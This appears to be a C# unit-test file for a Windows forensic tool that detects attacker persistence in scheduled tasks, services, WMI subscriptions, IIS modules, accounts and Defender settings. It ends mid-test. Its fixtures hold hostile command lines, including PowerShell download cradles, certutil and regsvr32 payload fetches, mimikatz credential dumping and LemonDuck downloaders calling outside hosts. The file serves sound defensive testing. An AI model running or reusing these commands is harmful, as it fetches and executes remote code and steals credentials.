using Afterpatch.Analysis.Detectors.Credentials;
using Afterpatch.Analysis.Detectors.Defence;
using Afterpatch.Analysis.Detectors.LemonDuck;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Analysis.Detectors.Ransomware;
using Afterpatch.Core;
using Xunit;
using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;
using Record = Afterpatch.Core.Record;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

public sealed class DetectorTests
{
    [Theory]
    [InlineData(@"C:\TMP\mim.exe", "sekurlsa::LogonPasswords > C:\\TMP\\o.txt")]
    [InlineData("powershell.exe", "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"")]
    [InlineData(@"C:\Users\Public\svchost.exe", "")]
    [InlineData("certutil.exe", "-urlcache -split -f http://203.0.113.7/a.exe C:\\a.exe")]
    [InlineData("mshta.exe", "http://203.0.113.7/a.hta")]
    [InlineData("wscript.exe", @"//B //E:jscript D:\Intel\gp.dat")]
    [InlineData("rundll32.exe", @"D:\ProgramData\oem\lib.dat,Start")]
    [InlineData("regsvr32", @"/s /u /n /i:\\198.51.100.4\s\a.sct scrobj")]
    [InlineData("cmd.exe", @"/c curl -s http://198.51.100.4/a.bat -o %PUBLIC%\a.bat & %PUBLIC%\a.bat")]
    [InlineData(@"D:\Windows\SysWOW64\cmd.exe", @"/c start /b D:\PerfLogs\Admin\s.exe")]
    [InlineData("net1", @"localgroup ""Administrateurs"" jean /ADD")]
    public void Tasks_that_run_an_intruders_command_are_found(string command, string arguments)
    {
        var finding = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\Update", command, arguments)));
        Assert.Equal("persistence.scheduled-task", finding.Detector);
        Assert.True(finding.Severity >= Severity.Medium);
        Assert.Equal(FindingState.Active, finding.State);
    }

    [Theory]
    [InlineData(@"%windir%\system32\defrag.exe", "-c -h -k -g -$")]
    [InlineData(@"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/c")]
    [InlineData(@"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "")]
    [InlineData("powershell.exe", @"-NoProfile -File ""C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Backup.ps1""")]
    [InlineData("cmd.exe", @"/c robocopy D:\Daten \\nas01\backup /MIR /R:1 /LOG:C:\Temp\robo.log")]
    [InlineData("powershell.exe", @"-command ""Get-ChildItem C:\Temp -Filter *.tmp | Remove-Item; Get-Mailbox | Export-Csv D:\Temp\boxes.csv""")]
    [InlineData("rundll32.exe", @"printui.dll,PrintUIEntry /in /n \\druck01\flur")]
    [InlineData("cmd.exe", @"/c curl -s https://status.contoso.example/ping > NUL")]
    [InlineData("%windir%\\system32\\rundll32.exe", "%windir%\\system32\\Startupscan.dll,SusRunTask")]
    public void Ordinary_tasks_stay_quiet(string command, string arguments) =>
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Microsoft\Windows\Some", command, arguments)));

    [Theory]
    [InlineData(@"-w hidden -c ""iex (Get-ItemProperty HKLM:\SOFTWARE\Contoso).Data""", Severity.High)]
    [InlineData(@"-c ""$x=[Microsoft.Win32.Registry]::GetValue('HKEY_LOCAL_MACHINE\SOFTWARE\C','d',''); [Reflection.Assembly]::Load([Convert]::FromBase64String($x))""", Severity.High)]
    [InlineData(@"-nop -c ""&([scriptblock]::Create((gp 'Registry::HKEY_USERS\.DEFAULT\C').d))""", Severity.High)]
    [InlineData(@"-c ""(Get-ItemProperty HKLM:\SOFTWARE\Contoso).Version | Out-File D:\Reports\version.txt""", Severity.Informational)]
    public void A_payload_that_lies_in_the_registry_weighs_as_much_as_one_in_a_file(string arguments, Severity severity)
    {
        var findings = Run(new ScheduledTaskDetector(), Task(@"\Contoso\Update", "powershell.exe", arguments));
        Assert.Equal(severity, findings.Count == 0 ? Severity.Informational : findings[0].Severity);
    }

    [Fact]
    public void Lemon_ducks_flag_and_worker_tasks_are_told_by_name()
    {
        var worker = "-w hidden -c \"function a($u){$d=(New-Object Net.WebClient).DownloadData($u);$c=$d.count;if($c -gt 173){$b=$d[173..$c];$p=New-Object Security.Cryptography.RSAParameters;"
            + "$p.Modulus=[convert]::FromBase64String('2mWo17uXvG1BXpmdgv8v/3NTmnNubHtV62fWrk4jR7rpfqOLdHa10=');$p.Exponent=0x01,0x00,0x01;IEX(-join[char[]]$b)}};a('http://t.amynx.com/a.jsp?x')\"";
        var findings = Run(new ScheduledTaskDetector(), Task(@"\blackball", "blackball"), Task(@"\MicroSoft\Windows\x7Yk2b", "powershell", worker));
        Assert.Equal(2, findings.Count);
        Assert.All(findings, finding => Assert.Equal("lemonduck.task", finding.Detector));
    }

    [Fact]
    public void A_deleted_task_is_removed_and_a_task_without_descriptor_is_hidden()
    {
        var ordinary = Enumerable.Range(0, 12).Select(i => Task($@"\t{i}", @"%windir%\system32\a.exe", "", "taskcache", descriptor: true)).Cast<Record>().ToList();
        var findings = Run(new ScheduledTaskDetector(), [.. ordinary, Task(@"\gone", @"C:\Windows\Temp\a.exe", "", "taskcache", deleted: true), Task(@"\ghost", @"%windir%\system32\b.exe", "", "taskcache", descriptor: false)]);
        Assert.Equal(FindingState.Removed, findings.Single(finding => finding.Subject.Value == @"\gone").State);
        Assert.Equal("persistence.hidden-task", findings.Single(finding => finding.Subject.Value == @"\ghost").Detector);
        Assert.Equal(2, findings.Count);
    }

    [Fact]
    public void A_task_that_is_only_a_file_is_told_apart_where_the_registry_is_there()
    {
        var ordinary = Enumerable.Range(0, 12).SelectMany(i => new Record[] { Task($@"\t{i}", @"%windir%\system32\a.exe", "", "taskcache", descriptor: true), Task($@"\t{i}", @"%windir%\system32\a.exe") }).ToList();
        var alone = Task(@"\Contoso\Sub\left", @"D:\Temp\a.exe");
        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new ScheduledTaskDetector(), [.. ordinary, alone])).State);
        Assert.Equal(FindingState.Active, Assert.Single(Run(new ScheduledTaskDetector(), alone)).State);
        Assert.Empty(Run(new ScheduledTaskDetector(), [.. ordinary, Task(@"\quiet", @"%windir%\system32\b.exe")]));
    }

    [Fact]
    public void A_task_whose_file_hides_what_the_registry_runs_is_told()
    {
        var swapped = Run(new ScheduledTaskDetector(), Task(@"\Update", @"%windir%\system32\defrag.exe", "-c"), Task(@"\Update", @"C:\Users\Public\a.exe", "", "taskcache"));
        Assert.Contains(swapped, finding => finding.Detector == "persistence.task-mismatch" && finding.Severity == Severity.High);
        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Update", "\"%windir%\\system32\\Defrag.exe\"", "-c"), Task(@"\Update", @"%windir%\system32\defrag.exe", "-c", "taskcache")));
    }

    [Fact]
    public void A_remote_access_tool_is_a_question_and_more_where_no_installer_puts_it()
    {
        var installed = Item("service", "AnyDesk", "unknown", ("imagePath", @"""C:\Program Files (x86)\AnyDesk\AnyDesk.exe"" --service"));
        Assert.Equal(Severity.Low, Assert.Single(Run(new RemoteAccessDetector(KnowledgeBase.Embedded), installed)).Severity);
        var dropped = Item("service", "Windows Update Helper", "unknown", ("imagePath", @"C:\Users\Public\anydesk.exe --service"));
        Assert.Equal(Severity.Medium, Assert.Single(Run(new RemoteAccessDetector(KnowledgeBase.Embedded), installed, dropped)).Severity);
        LoggedEvent Told(string name, string image) => new()
        {
            At = new EvidencePointer("C:\\System.evtx", 1),
            Channel = "System",
            Provider = "Service Control Manager",
            EventId = 7045,
            TimeUtc = Findings.Start,
            Computer = "EX01",
            Data = [new("ServiceName", name), new("ImagePath", image)],
        };
        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new RemoteAccessDetector(KnowledgeBase.Embedded), Told("AnyDesk Service", @"C:\ProgramData\AnyDesk\AnyDesk.exe"))).State);
        Assert.Empty(Run(new RemoteAccessDetector(KnowledgeBase.Embedded), Told("Windows Defender", @"C:\ProgramData\Microsoft\Windows Defender\MsMpEng.exe")));
        Assert.Empty(Run(new RemoteAccessDetector(KnowledgeBase.Embedded), Item("service", "TermService", "yes", ("imagePath", @"%SystemRoot%\System32\svchost.exe -k termsvcs")), Item("product", "Microsoft Exchange Server 2016")));
    }

    [Theory]
    [InlineData(@"cmd.exe /c echo abcdef > \\.\pipe\abcdef")]
    [InlineData(@"C:\Program Files\x\a.exe -p \\.\pipe\msagent_1f")]
    public void A_service_that_speaks_through_the_pipes_of_intrusion_tools_is_told(string image) =>
        Assert.Contains(Run(new ServiceDetector(), Item("service", "x", "unknown", ("imagePath", image))), finding => finding.Severity >= Severity.High);

    [Theory]
    [InlineData(@"COR_PROFILER={A} COR_PROFILER_PATH_64=C:\Program Files\Contoso Apm\bin\p.dll COR_ENABLE_PROFILING=1", Severity.Low)]
    [InlineData(@"COR_ENABLE_PROFILING=1 COR_PROFILER_PATH=C:\Program Files\Other\p.dll", Severity.Medium)]
    [InlineData("COR_ENABLE_PROFILING=1 COR_PROFILER={A}", Severity.Medium)]
    [InlineData(@"COR_PROFILER_PATH=C:\Windows\Temp\p.dll", Severity.High)]
    public void A_profiler_of_an_installed_product_is_a_question_and_another_more(string environment, Severity severity)
    {
        var finding = Assert.Single(Run(new ServiceDetector(), Item("service", "W3SVC", "yes", ("imagePath", @"%windir%\system32\svchost.exe -k iissvcs"), ("environment", environment)),
            Item("product", "Contoso APM Agent", "unknown", ("publisher", "Contoso Ltd."))));
        Assert.Equal((severity, "finding.persistence.service.profiler.title"), (finding.Severity, finding.TitleKey));
        Assert.Contains(finding.Details, detail => detail.Key == "profiler");
    }

    [Fact]
    public void A_service_without_a_profiler_is_quiet() =>
        Assert.Empty(Run(new ServiceDetector(), Item("service", "W3SVC", "yes", ("imagePath", @"%windir%\system32\svchost.exe -k iissvcs"), ("environment", "TEMP=C:\\Windows\\Temp"))));

    [Fact]
    public void An_installed_service_has_the_state_that_the_registry_shows()
    {
        const string Image = @"%COMSPEC% /C echo dir ^> \\127.0.0.1\C$\__output > %TEMP%\e.bat";
        FindingState State(int days, params Record[] others) => Assert.Single(Run(new ServiceDetector(), [
            Event("System", 7045, new DateTime(2021, 3, 12, 8, 0, 0, DateTimeKind.Utc).AddDays(days), ("ServiceName", "Upd"), ("ImagePath", Image)), .. others])).State;
        var other = Item("service", "Spooler", "yes", ("imagePath", @"%SystemRoot%\System32\spoolsv.exe"));
        Assert.Equal(FindingState.Unknown, State(-1));
        Assert.Equal(FindingState.Removed, State(-1, other));
        Assert.Equal(FindingState.Removed, State(-1, Hive("system", @"C:\Windows\System32\config\SYSTEM"), other));
        Assert.Equal(FindingState.Unknown, State(1, other));
        Assert.Equal(FindingState.Unknown, State(-1, other, Item("service", "Upd", "unknown", ("imagePath", @"C:\Program Files\a\a.exe"))));
    }

    [Theory]
    [InlineData("sekurlsa::logonpasswords", "T1003.001")]
    [InlineData("lsadump::dcsync", "T1003.006")]
    public void A_task_that_takes_passwords_takes_what_its_module_takes(string module, string technique)
    {
        var task = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\x", @"C:\Temp\m.exe", $"{module} exit")));
        Assert.Equal(["T1053.005", technique], task.Attack);
    }

    [Theory]
    [InlineData(6, "EX01", true)]
    [InlineData(120, "EX01", false)]
    [InlineData(6, "CONTOSO", false)]
    public void A_local_account_that_lived_for_minutes_is_told_as_gone(int minutes, string domain, bool isTold)
    {
        var made = new DateTime(2021, 3, 12, 8, 0, 0, DateTimeKind.Utc);
        var findings = Run(new LocalAccountDetector(), Event("Security", 4720, made, ("TargetUserName", "t"), ("TargetDomainName", domain), ("SubjectUserName", "adm"), ("SubjectUserSid", "S-1-5-21-1-2-3-500")),
            Event("Security", 4726, made.AddMinutes(minutes), ("TargetUserName", "t")));
        (Severity, FindingState)[] expected = isTold ? [(Severity.Low, FindingState.Removed)] : [];
        Assert.Equal(expected, findings.Select(finding => (finding.Severity, finding.State)));
    }

    [Fact]
    public void A_task_that_only_an_event_tells_of_is_judged()
    {
        var registered = Event("Security", 4698, null, ("TaskName", @"\x"), ("TaskContent", "<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec></Actions></Task>"));
        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new ScheduledTaskDetector(), registered)).State);
        Assert.Equal(FindingState.Removed, Assert.Single(Run(new ScheduledTaskDetector(), registered, Event("Security", 4699, null, ("TaskName", @"\x")))).State);
    }

    [Fact]
    public void A_bound_script_consumer_is_found_and_windows_own_is_not()
    {
        var planted = Run(new WmiSubscriptionDetector(),
            Wmi("filter", "__EventFilter", "Trigger", ("Name", "Trigger"), ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 60")),
            Wmi("consumer", "ActiveScriptEventConsumer", "Killer", ("Name", "Killer"), ("ScriptText", "CreateObject(\"WScript.Shell\").Run \"calc\"")),
            Wmi("binding", "__FilterToConsumerBinding", "Trigger -> Killer", ("Filter", "__EventFilter.Name=\"Trigger\""), ("Consumer", "ActiveScriptEventConsumer.Name=\"Killer\"")));
        var finding = Assert.Single(planted);
        Assert.Equal("persistence.wmi-subscription", finding.Detector);
        Assert.Equal(FindingState.Active, finding.State);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Empty(Run(new WmiSubscriptionDetector(),
            Wmi("filter", "__EventFilter", "SCM Event Log Filter", ("Query", "select * from MSFT_SCMEventLogEvent")),
            Wmi("consumer", "NTEventLogEventConsumer", "SCM Event Log Consumer"),
            Wmi("binding", "__FilterToConsumerBinding", "x", ("Filter", "__EventFilter.Name=\"SCM Event Log Filter\""), ("Consumer", "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\""))));
    }

    [Fact]
    public void Lemon_ducks_pair_of_filter_and_consumer_is_told_by_name()
    {
        var findings = Run(new WmiSubscriptionDetector(),
            Wmi("filter", "__EventFilter", "blackball", ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'")),
            Wmi("filter", "__EventFilter", "fQx81kz", ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'")),
            Wmi("consumer", "CommandLineEventConsumer", "cQx81kz", ("ExecutablePath", @"c:\windows\system32\cmd.exe"), ("CommandLineTemplate", "/c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.zz3r0.com/aa.jsp')")),
            Wmi("binding", "__FilterToConsumerBinding", "b", ("Filter", "__EventFilter.Name=\"fQx81kz\""), ("Consumer", "CommandLineEventConsumer.Name=\"cQx81kz\"")));
        Assert.Equal(2, findings.Count(finding => finding.Detector == "lemonduck.wmi"));
    }

    [Fact]
    public void Services_are_judged_by_what_they_run()
    {
        var findings = Run(new ServiceDetector(),
            Item("service", "abcdefg", "unknown", ("imagePath", @"\\127.0.0.1\ADMIN$\1f3a9c0.exe")),
            Item("service", "W3SVC", "yes", ("imagePath", @"%windir%\system32\svchost.exe -k iissvcs"), ("serviceDll", @"%windir%\system32\inetsrv\iisw3adm.dll")),
            Item("service", "McShield", "unknown", ("imagePath", "\"C:\\Program Files\\McAfee\\mcshield.exe\"")),
            Item("service", "Beep", "unknown", ("type", "kernel driver")),
            Event("System", 7045, null, ("ServiceName", "x"), ("ImagePath", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgA")));
        Assert.Equal(["abcdefg", "x"], findings.Select(finding => finding.Subject.Value));
    }

    [Theory]
    [InlineData(@"C:\Users\bob\Downloads\x.exe", @"C:\Users\bob\AppData\Local\Programs\Vendor\agent.exe")]
    [InlineData(@"C:\Users\Default\x.exe", @"C:\Program Files\Default\x.exe")]
    [InlineData(@"C:\Windows\inf\x.exe", @"C:\Windows\CCM\CcmExec.exe")]
    [InlineData(@"C:\Windows\IME\IMEJP\x.exe -s", @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\SMSvcHost.exe")]
    [InlineData(@"%SystemRoot%\en-US\svc.exe", @"%SystemRoot%\servicing\TrustedInstaller.exe")]
    [InlineData(@"C:\Windows\System32\spool\x.exe", @"C:\Windows\System32\spool\drivers\x64\3\vendor.exe")]
    [InlineData(@"C:\Windows\System32\config\systemprofile\x.exe", @"C:\Windows\System32\inetsrv\inetinfo.exe")]
    [InlineData(@"C:\ProgramData\Microsoft\x.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MsMpEng.exe\"")]
    [InlineData(@"C:\System Volume Information\x.exe", @"D:\Data\Vendor\Agent\agent.exe")]
    [InlineData(@"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\ecp\x.exe", @"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeHMHost.exe")]
    [InlineData(@"\??\C:\ProgramData\WinRing0x64.sys", @"\SystemRoot\System32\drivers\WinRing0x64.sys")]
    [InlineData(@"""C:\Program Files\Java\jre\bin\java.exe"" -jar C:\Windows\Temp\a.jar", @"""C:\Program Files\Java\jre\bin\java.exe"" -jar D:\App\a.jar")]
    [InlineData(@"C:\Python39\python.exe C:\Users\Public\a.py", @"C:\Python39\python.exe D:\Jobs\a.py")]
    public void A_service_lies_where_programs_lie(string odd, string ordinary)
    {
        Assert.Equal(Severity.Medium, Assert.Single(Run(new ServiceDetector(), Item("service", "x", "unknown", ("imagePath", odd)))).Severity);
        Assert.Empty(Run(new ServiceDetector(), Item("service", "x", "unknown", ("imagePath", ordinary))));
    }

    [Fact]
    public void A_service_is_judged_by_what_its_wrapper_starts()
    {
        var findings = Run(new ServiceDetector(),
            Item("service", "Wmi Helper", "unknown", ("imagePath", @"C:\Windows\srvany.exe"), ("application", @"C:\Windows\Temp\m.exe")),
            Item("service", "Backup", "unknown", ("imagePath", @"C:\Tools\nssm.exe"), ("application", @"D:\Backup\agent.exe --run")));
        Assert.Equal(@"C:\Windows\Temp\m.exe", Assert.Single(findings).Evidence.Single().Excerpt);
    }

    [Fact]
    public void Autostart_points_with_their_usual_content_are_quiet()
    {
        Assert.Empty(Run(new AutostartDetector(),
            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell", "unknown", ("location", "Winlogon"), ("command", "explorer.exe")),
            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit", "unknown", ("location", "Winlogon"), ("command", @"C:\Windows\system32\userinit.exe,")),
            Item("autostart", @"HKLM\SYSTEM\ControlSet001\Control\Lsa\Security Packages", "unknown", ("location", "LSA packages"), ("command", "kerberos\nmsv1_0\nschannel\nwdigest\ntspkg\npku2u")),
            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\VMware User Process", "unknown", ("location", "Run"), ("command", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr"))));
        Assert.Equal(3, Run(new AutostartDetector(),
            Item("autostart", @"HKLM\SYSTEM\ControlSet001\Control\Lsa\Security Packages", "unknown", ("location", "LSA packages"), ("command", "kerberos\nmimilib")),
            Item("autostart", @"HKLM\X\Image File Execution Options\sethc.exe\Debugger", "unknown", ("location", "Image file execution options"), ("command", @"C:\windows\system32\cmd.exe")),
            Item("autostart", @"HKLM\X\Run\u", "unknown", ("location", "Run"), ("command", @"C:\Users\Public\u.exe"))).Count);
    }

    [Fact]
    public void Iis_items_that_no_healthy_server_has_are_found()
    {
        var findings = Run(new IisDetector(),
            Item("iis-native-module", "HttpLogModule", "unknown", ("image", @"C:\Windows\Temp\logging.dll"), ("source", "live")),
            Item("iis-native-module", "UriCacheModule", "yes", ("image", @"%windir%\System32\inetsrv\cachuri.dll"), ("source", "live")),
            Item("iis-native-module", "AvModule", "unknown", ("image", @"C:\Program Files\Vendor\av.dll"), ("source", "live")),
            Item("virtual-directory", "Default Web Site/owa/x", "unknown", ("physicalPath", @"C:\ProgramData\COM"), ("source", "live")),
            Item("iis-handler", "j", "unknown", ("path", "*.jpg"), ("type", "System.Web.UI.PageHandlerFactory"), ("source", "live")));
        Assert.Equal(["persistence.iis-module", "persistence.virtual-directory", "persistence.iis-module"], findings.Select(finding => finding.Detector));
        Assert.All(findings, finding => Assert.Equal(Severity.High, finding.Severity));
    }

    [Theory]
    [InlineData(@"\\fs01\web", Severity.Medium)]
    [InlineData(@"\\203.0.113.9\x", Severity.High)]
    [InlineData(@"\\cdn.evil.example@SSL\DavWWWRoot\x", Severity.High)]
    [InlineData(@"\\dc01\c$\x", Severity.High)]
    [InlineData(@"\\?\C:\x", Severity.High)]
    public void A_directory_on_a_file_server_says_less_than_one_on_a_strange_machine(string path, Severity severity) =>
        Assert.Equal(severity, Assert.Single(Run(new IisDetector(), Item("virtual-directory", "Default Web Site/files", "unknown", ("physicalPath", path), ("source", "live")))).Severity);

    [Theory]
    [InlineData("ExtenderControlDesigner.ExtenderControlDesigner, ExtenderControlDesigner, Version=1.0.0.0, Culture=neutral, PublicKeyToken=b07504c8144c2a49", Severity.High)]
    [InlineData("Vendor.Web.ExtenderControlDesigner, Vendor.Web, Version=1.0.0.0", Severity.Medium)]
    public void A_managed_module_is_known_by_the_published_name_of_its_type(string type, Severity severity) =>
        Assert.Equal(severity, Assert.Single(Run(new IisDetector(), Item("iis-module", "m", "unknown", ("type", type), ("source", "live")))).Severity);

    [Fact]
    public void A_program_that_windows_remembers_is_a_known_file_and_nobody_knows_whether_it_is_still_there()
    {
        var trace = new ProgramTrace { At = new EvidencePointer("SYSTEM"), Family = "shimcache", Path = @"C:\Windows\Temp\xx.bat", SeenUtc = new(2021, 3, 3, 0, 0, 0, DateTimeKind.Utc) };
        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new KnownFileDetector(FileIndicators.Embedded), trace)).State);
        Assert.Empty(Run(new KnownFileDetector(FileIndicators.Embedded), trace with { Path = @"C:\Windows\System32\cmd.exe" }));
    }

    [Fact]
    public void A_worker_that_loads_a_profiler_or_a_foreign_runtime_is_told_and_an_ordinary_pool_is_not()
    {
        var findings = Run(new IisDetector(),
            Item("app-pool", "MSExchangeOWAAppPool", "no", ("environment", @"COR_PROFILER_PATH=C:\Windows\Temp\p.dll"), ("source", "live")),
            Item("app-pool", "MSExchangeECPAppPool", "no", ("managedRuntimeLoader", @"C:\x\loader.dll"), ("source", "live")),
            Item("app-pool", "Intranet", "unknown", ("managedRuntimeLoader", "webengine4.dll"), ("source", "live")));
        Assert.Equal([("persistence.app-pool", "MSExchangeOWAAppPool"), ("persistence.app-pool", "MSExchangeECPAppPool")], findings.Select(finding => (finding.Detector, finding.Subject.Value)));
    }

    [Theory]
    [InlineData("Shadow", "2", "defence.rdp-shadow")]
    [InlineData("DisableRestrictedAdmin", "0", "defence.restricted-admin")]
    [InlineData("UserAuthentication", "0", "defence.rdp-authentication")]
    [InlineData("Shadow", "1", null)]
    [InlineData("UserAuthentication", "1", null)]
    [InlineData("fDenyTSConnections", "0", null)]
    public void Remote_desktop_is_told_where_it_lets_in_more_than_it_should(string value, string data, string? detector) =>
        Assert.Equal(detector, Run(new DefenceDetector(), Item("setting", $@"HKLM\SYSTEM\X\{value}", "unknown", ("value", value), ("data", data))).SingleOrDefault()?.Detector);

    /// <summary>Forms that no detector was written for, met once before anything was changed: 23 of 24 planted ones were told, none of 16 honest ones.</summary>
    [Theory]
    [MemberData(nameof(Blind.Planted), MemberType = typeof(Blind))]
    public void What_an_intruder_plants_is_told_whatever_its_form(string kind, string command) => Assert.True(Blind.Worst(kind, command) >= Severity.Medium);

    [Theory]
    [MemberData(nameof(Blind.Honest), MemberType = typeof(Blind))]
    public void What_products_leave_is_not_told(string kind, string command) => Assert.True(Blind.Worst(kind, command) <= Severity.Low);

    [Fact]
    public void A_transport_agent_beyond_exchanges_own_is_found()
    {
        var findings = Run(new TransportAgentDetector(),
            Item("transport-agent", "Transport Rule Agent", "yes", ("assemblyPath", @"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\agents\Rule\a.dll"), ("enabled", "true")),
            Item("transport-agent", "Content Filter Security Agent", "unknown", ("assemblyPath", @"C:\Windows\Temp\b.dll"), ("enabled", "true")));
        Assert.Equal(Severity.High, Assert.Single(findings).Severity);
    }

    [Fact]
    public void Accounts_that_were_hijacked_hidden_or_named_by_malware_are_found()
    {
        var findings = Run(new LocalAccountDetector(),
            Item("account", "Administrator", "yes", ("rid", "500"), ("disabled", "no"), ("groups", "Administratoren"), ("administrator", "yes")),
            Item("account", "Guest", "yes", ("rid", "501"), ("ridInData", "500"), ("disabled", "no")),
            Item("account", "netcat", "unknown", ("rid", "1005"), ("disabled", "no"), ("groups", "Administratoren"), ("administrator", "yes")),
            Item("account", "svc_backup", "unknown", ("rid", "1006"), ("disabled", "no"), ("groups", "Administratoren"), ("administrator", "yes")));
        Assert.Equal(["Guest", "netcat"], findings.Select(finding => finding.Subject.Value));
        Assert.Equal("rid-hijacked, built-in-guest-enabled", findings[0].Details.Single(detail => detail.Key == "reasons").Value);
    }

    [Fact]
    public void An_account_of_windows_is_dated_by_its_data_and_each_reason_is_told()
    {
        var guest = Item("account", "Guest", "yes", ("rid", "501"), ("ridInData", "500"), ("disabled", "no"), ("createdUtc", "2019-01-05T09:00:00Z"), ("dataWrittenUtc", "2021-03-12T09:00:00Z"));
        Assert.Equal(new DateTime(2021, 3, 12, 9, 0, 0, DateTimeKind.Utc), Assert.Single(Run(new LocalAccountDetector(), guest)).FirstUtc);
        var hidden = Assert.Single(Run(new LocalAccountDetector(),
            Item("setting", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList\svc$", "unknown", ("value", "svc$"), ("data", "0")),
            Item("account", "svc$", "unknown", ("rid", "1005"), ("disabled", "no"), ("administrator", "yes"))));
        Assert.Equal("local-user-named-like-a-machine, hidden-from-logon-screen", hidden.Details.Single(detail => detail.Key == "reasons").Value);
    }

    [Fact]
    public void A_service_of_that_name_is_a_lead_alone_and_dearcrys_beside_its_files()
    {
        var service = Item("service", "msupdate", "unknown", ("imagePath", @"C:\Program Files\Contoso\msupdate.exe"));
        var alone = Assert.Single(Run(new RansomwareDetector(), service));
        Assert.Equal(("ransomware.service-name", Severity.Medium), (alone.Detector, alone.Severity));
        var beside = Run(new RansomwareDetector(), service, new MarkedFile { At = service.At, Path = @"D:\a.docx.CRYPT", Mark = "DEARCRY!", SizeBytes = 5 });
        Assert.All(beside, finding => Assert.Equal("ransomware.dearcry", finding.Detector));
    }

    [Fact]
    public void A_hidden_task_with_a_payload_is_one_finding()
    {
        var hidden = Task(@"\Microsoft\Windows\Ras\RasSync", @"C:\Windows\System32\rundll32.exe", @"C:\Users\Public\rs.dat,#1", "taskcache", descriptor: false);
        var others = Enumerable.Range(0, 9).Select(i => (Record)Task($@"\Contoso{i}", @"C:\Program Files\Contoso\a.exe", store: "taskcache", descriptor: true));
        var finding = Assert.Single(Run(new ScheduledTaskDetector(), [hidden, .. others]));
        Assert.Equal(("persistence.hidden-task", "finding.persistence.hidden-task.malicious.title", Severity.High), (finding.Detector, finding.TitleKey, finding.Severity));
    }

    [Theory]
    [InlineData("CONTOSO", true)]
    [InlineData("WORKGROUP", false)]
    [InlineData("", false)]
    public void An_account_that_the_machine_makes_is_a_finding_once_it_has_joined_its_domain(string domain, bool isFound)
    {
        var made = new LoggedEvent
        {
            At = new(@"C:\Security.evtx", 10),
            TimeUtc = new(2021, 3, 3, 4, 0, 0, DateTimeKind.Utc),
            Channel = "Security",
            Provider = "Microsoft-Windows-Security-Auditing",
            EventId = 4720,
            Computer = "EX01",
            Data = [new("TargetUserName", "support"), new("TargetSid", "S-1-5-21-1-2-3-1004"), new("SubjectUserSid", "S-1-5-18"), new("SubjectUserName", "EX01$"), new("SubjectDomainName", domain)],
        };
        Assert.Equal(isFound, Run(new LocalAccountDetector(), made).Count > 0);
    }

    [Fact]
    public void Weakened_protection_is_found_and_microsofts_advice_is_not()
    {
        var findings = Run(new DefenceDetector(),
            Item("defender-exclusion", @"c:\", "unknown", ("type", "paths"), ("list", "none")),
            Item("defender-exclusion", "EdgeTransport.exe", "yes", ("type", "processes"), ("list", "current")),
            Item("defender-exclusion", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "unknown", ("type", "processes"), ("list", "withdrawn")),
            Item("setting", @"HKLM\SYSTEM\X\WDigest\UseLogonCredential", "unknown", ("value", "UseLogonCredential"), ("data", "1")),
            Item("firewall-rule", "{1}", "unknown", ("rule", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|")),
            Item("port-proxy", "0.0.0.0/65529", "unknown", ("rule", "1.1.1.1/53")),
            Item("rewrite-rule", "X-BEResource Abort - inbound", "unknown", ("match", ".*"), ("conditions", "{HTTP_COOKIE} ~ X-BEResource=(.+)/(.+)~(.+)"), ("action", "AbortRequest")));
        Assert.Equal(["defence.defender-exclusion", "defence.defender-exclusion", "credentials.wdigest", "lemonduck.network", "lemonduck.network", "defence.mitigation-rules"], findings.Select(finding => finding.Detector));
        Assert.Equal([Severity.High, Severity.Low], findings.Take(2).Select(finding => finding.Severity));
        Assert.Equal(Severity.Informational, findings[^1].Severity);
    }

    [Fact]
    public void Hives_outside_their_place_are_theft_and_inside_they_are_not()
    {
        Assert.Empty(Run(new StolenSecretsDetector(), Hive("sam", @"C:\Windows\System32\config\SAM"), Hive("system", @"C:\Windows\System32\config\SYSTEM"), Hive("user", @"C:\Temp\a.dat")));
        Assert.Empty(Run(new StolenSecretsDetector(), Hive("sam", @"?:\collected\SAM"), Hive("system", @"?:\collected\system")));
        var finding = Assert.Single(Run(new StolenSecretsDetector(), Hive("sam", @"C:\Windows\Temp\a.tmp"), Hive("system", @"C:\Windows\Temp\b.tmp"), Hive("security", @"C:\Windows\Temp\c.tmp")));
